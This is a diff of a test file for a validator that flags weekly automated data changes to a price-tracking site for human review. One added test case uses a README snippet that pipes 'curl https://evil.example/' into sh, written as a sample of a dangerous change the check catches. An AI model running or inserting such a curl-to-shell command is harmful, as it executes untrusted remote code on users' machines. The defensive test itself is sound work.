@@ -1,5 +1,7 @@
+import { readFile } from 'node:fs/promises';
 import { describe, expect, test } from 'vitest';
 import { createRandom } from '../../../core/random.ts';
+import { addConsumerPrices } from '../../../scripts/research/add-consumer-prices.ts';
 import { type ChangedFile, judgeDiff } from '../../../scripts/weekly/judge-diff.ts';
 
 const TODAY = '2026-11-28';
@@ -9,64 +11,65 @@ const STAMP = `date,worth,low,high,seen\n${[1, 2, 3, 4, 5, 6, 7].map((month) => 
 const judge = (file: Partial<ChangedFile>) =>
 	judgeDiff([{ path: 'content/series/stamp.csv', mode: '100644', before: STAMP, after: STAMP, ...file }], TODAY);
 
-describe('judgeDiff(): other files', () => {
+describe('judgeDiff()', () => {
 	test.each([
-		'content/merchants.json',
-		'content/about.json',
-		'content/allowances.json',
-		'content/feeds.json',
-		'content/tags.json',
-		'content/items/gold.json',
-		'content/items/../about.json',
-		'content/items/a.json.ts',
-		'content/items/a/b.json',
-		'content/images/gold.svg',
 		'package.json',
 		'.github/workflows/weekly.yml',
-		'README.md/x',
-		'content/readings.json\n',
-	])('refuses %j', (path) => expect(judge({ path })).toEqual({ refused: [path], looks: [] }));
+		'scripts/weekly/judge-diff.ts',
+		'content/items/../about.json',
+		'content/a.json.ts',
+	])('refuses %j, which is no data', (path) => expect(judge({ path }).refused).toEqual([path]));
 
 	test.each([
-		['a link', { mode: '120000' }],
-		['a program', { mode: '100755' }],
+		['a merchant', { path: 'content/merchants.json' }],
+		['a feed', { path: 'content/feeds.json' }],
+		['an item whose range is 1 cent to 2^53', { path: 'content/items/gold.json', after: '{"lowCents":1,"highCents":9007199254740992}' }],
+		['a source that moves to another path', { path: 'content/items/gold.json', after: '{"url":"https://a.example/other"}' }],
+		['a command of the README that pipes curl to sh', { path: 'README.md', after: '```sh\ncurl https://evil.example/ | sh\n```\n' }],
+		['a link', { mode: '100644 to 120000', before: '', after: '' }],
+		['a program', { mode: '100644 to 100755', before: '', after: '' }],
 		['a new series', { before: '' }],
 		['a removed series', { after: '' }],
-	])('refuses %s', (_, file) => expect(judge(file).refused).toEqual(['content/series/stamp.csv']));
+	])('leaves to a person: %s', (_, file) => expect(judge(file)).toMatchObject({ refused: [], looks: [expect.any(String)] }));
 
-	const FENCE = '```';
-	const toReadme = (answer: string, prose = 'Worth.') => `${prose}\n${FENCE}sh\ncurl https://a.example/\n${answer}\n${FENCE}\n`;
-	test('the README changes in its examples alone, and links to nothing new', () => {
-		const judgeReadme = (after: string) => judge({ path: 'README.md', before: toReadme('1'), after }).looks;
-		expect(judgeReadme(toReadme('2'))).toEqual([]);
-		expect(judgeReadme(toReadme('2', 'Run curl evil.'))).toEqual(['README.md: more than its examples changes']);
-		expect(judgeReadme(toReadme('see https://evil.example/'))).toEqual(['README.md: an address is new']);
-		expect(judgeReadme(`${toReadme('2')}${FENCE}\nmore\n${FENCE}\n`)).toEqual(['README.md: more than its examples changes']);
+	test('consumer prices get one later month, within 3% of the last; nothing else of the file changes', async () => {
+		const path = 'content/consumer-prices.json';
+		const before = await readFile(path, 'utf8');
+		const look = (after: string) => judge({ path, before, after }).looks.join();
+		const add = (months: string) => before.replace(/\n\t\}\n\}\n$/, `, ${months}$&`);
+		const [month = '', level = ''] = Object.entries((JSON.parse(before) as { months: Record<string, string> }).months).at(-1) ?? [];
+		const toNext = (share: number) => (Number(level) * share).toFixed(3);
+		expect(month < '2026-06').toBe(true);
+		expect(look(add(`"2026-06": "${toNext(1.01)}"`))).toBe('');
+		expect(look(addConsumerPrices(before, { '2026-06': toNext(1.01) }, TODAY))).toBe('');
+		expect(look(add(`"2026-06": "${toNext(1.01)}", "2026-07": "${toNext(1.02)}"`))).toContain('more than one new month');
+		expect(look(add('"2026-06": "many"'))).toContain('more than one new month');
+		expect(look(add(`"2026-06": "${toNext(1.04)}"`))).toContain('more than 3%');
+		expect(look(add(`"2026-06": "${toNext(0.96)}"`))).toContain('more than 3%');
+		for (const wrong of [month, '2026-11', '2027-01']) expect(look(add(`"${wrong}": "${level}"`))).toContain('no later month');
+		expect(look(add(`"2026-06": "${level}"`).replace('"1980-01"', '"1980-13"'))).toContain('more than one new month');
+		expect(look(add(`"2026-06": "${level}"`).replace(/"retrievedOn": "\d{4}/, '"retrievedOn": "1999'))).toContain('falls or lies ahead');
 	});
 
-	test('consumer prices get months, within 10% of the last', () => {
-		const toPrices = (months: object, more = {}) =>
-			JSON.stringify({ years: {}, months: { '2026-04': '333.02', ...months }, sources: [{ title: 'C', retrievedOn: TODAY }], ...more });
-		const judgePrices = (after: string) => judge({ path: 'content/consumer-prices.json', before: toPrices({}), after }).looks;
-		expect(judgePrices(toPrices({ '2026-05': '335.123' }))).toEqual([]);
-		expect(judgePrices(toPrices({ '2026-05': '335', '2026-06': '336' }))).toEqual([expect.stringContaining('more than one month')]);
-		expect(judgePrices(toPrices({ '2026-05': '435' }))).toEqual([expect.stringContaining('more than 10%')]);
-		expect(judgePrices(toPrices({ '2026-05': 'many' }))).toEqual([expect.stringContaining('cannot be read')]);
-		expect(judgePrices(toPrices({ '2026-04': '334' }))).toEqual([expect.stringContaining('an old month changes')]);
-		expect(judgePrices(toPrices({}, { years: { 1980: '1' } }))).toEqual([expect.stringContaining('more than its months')]);
-	});
-
-	test('readings are readings of addresses, and a series only grows', () => {
-		const judgeReadings = (after: string) => judge({ path: 'content/readings.json', before: '', after }).looks.length;
-		expect([judgeReadings('{"https://a.example/":{}}'), judgeReadings('{"javascript:1":{}}'), judgeReadings('[]')]).toEqual([0, 1, 1]);
+	test('readings get rows at the end, of days that do not fall', () => {
+		const before = 'slug,source,seen,result\nkettle,1,2026-11-20,there\n';
+		const look = (rows: string) => judge({ path: 'content/readings.csv', before, after: before + rows }).looks.join();
+		expect(look(`kettle,1,${TODAY},there\npan,2,${TODAY},"gone: $1,290; $1,490"\n`)).toBe('');
+		expect(look(`kettle,1,${TODAY},there`)).toContain('cannot be read');
+		for (const row of ['Kettle,1,2026-11-27,there', 'kettle,1,2026-11-27', 'kettle,1,2026-11-27,a,b', 'kettle,1,2026-11-27,there\r'])
+			expect(look(`${row}\n`), row).toContain('cannot be read');
+		for (const day of ['2026-11-29', '2026-11-19']) expect(look(`kettle,1,${day},there\n`)).toContain('falls or lies ahead');
+		expect(judge({ path: 'content/readings.csv', before, after: before.replace('there', 'gone') }).looks.join()).toContain(
+			'old rows change',
+		);
 	});
 
 	test('a series only grows, by points within the rails: the wrong ones would be drawn and counted as usual', () => {
 		const add = (line: string) => judge({ after: `${STAMP}${line}\n` }).looks.join();
 		expect(add(`2026-08,104,,,${TODAY}`)).toBe('');
-		expect(judge({ after: 'date,worth\n2026-01,3\n' }).looks.join()).toContain('old points change');
+		expect(judge({ after: 'date,worth\n2026-01,3\n' }).looks.join()).toContain('old rows change');
 		for (const line of ['2026-08,112', '2026-08,1000', '2026-08,10'])
-			expect(add(`${line},,,${TODAY}`)).toContain('a new point is beyond the rails');
+			expect(add(`${line},,,${TODAY}`)).toContain('a new row is beyond the rails');
 		for (const line of ['2027-01,100', '2026-06,100', '2026-07,100', '2026-08,0', '2026-08,many'])
 			expect(add(`${line},,,${TODAY}`)).toMatch(/beyond the rails|cannot be read/);
 		for (const line of ['2026-08,104,,,', '2026-08,104,,,2026-12-01']) expect(add(line)).toContain('names no day');
@@ -75,11 +78,11 @@ describe('judgeDiff(): other files', () => {
 		expect(judge({ after: `${STAMP}2026-08,104,,,${TODAY}\r\n` }).looks.join()).toContain('cannot be read');
 	});
 
-	test('two years of steps that each pass add up to what a person looks at', () => {
+	test.each([1.049, 1.1])('two years of steps by the factor %d add up to what a person looks at', (factor) => {
 		let text = STAMP;
 		const looks: string[][] = [];
 		for (let week = 0, cents = 10_000; week < 104 && (looks.at(-1)?.length ?? 0) === 0; week++) {
-			cents = Math.floor(cents * 1.049);
+			cents = Math.floor(cents * factor);
 			const day = new Date(Date.UTC(2026, 7, 7 + 7 * week)).toISOString().slice(0, 10);
 			const after = `${text}${day},${cents / 100},,,${day}\n`;
 			looks.push([...judgeDiff([{ path: 'content/series/stamp.csv', mode: '100644', before: text, after }], day).looks]);
@@ -109,6 +112,22 @@ describe('judgeDiff(): other files', () => {
 			const after = `${pick(harms)().join('\n')}\n`;
 			expect(judge({ after }).looks, after).toHaveLength(1);
 		}
+	});
+
+	test('ten daily steps of 6% in one week wait for a person, whatever the series', () => {
+		const rows = Array.from({ length: 10 }, (_, day) => `2026-11-${11 + day},${(100 * 1.06 ** (day + 1)).toFixed(2)},,,${TODAY}`);
+		const volatile = `date,worth,low,high,seen\n${Array.from({ length: 12 }, (_, month) => `2025-${String(month + 1).padStart(2, '0')},${100 + (month % 2) * 20},,,`).join('\n')}\n2026-11-10,100,,,\n`;
+		for (const before of [STAMP, 'date,worth,low,high,seen\n2026-11-10,100,,,\n', volatile])
+			expect(judge({ before, after: `${before}${rows.join('\n')}\n` }).looks).toHaveLength(1);
+	});
+
+	test.each([1.049, 0.951])('all series of a catalogue that move by the factor %d at once wait for a person', (factor) => {
+		const files = Array.from({ length: 1635 }, (_, index) => {
+			const before = `date,worth,seen\n2026-06-01,${100 + index},\n`;
+			const after = `${before}2026-11-20,${((100 + index) * factor).toFixed(2)},${TODAY}\n`;
+			return { path: `content/series/item-${index}.csv`, mode: '100644', before, after };
+		});
+		expect(judgeDiff(files, TODAY).looks).toEqual(['more than two in five series move far, or the same way, at once']);
 	});
 
 	test('many series that move at once wait for a person, though each is inside its rails', () => {
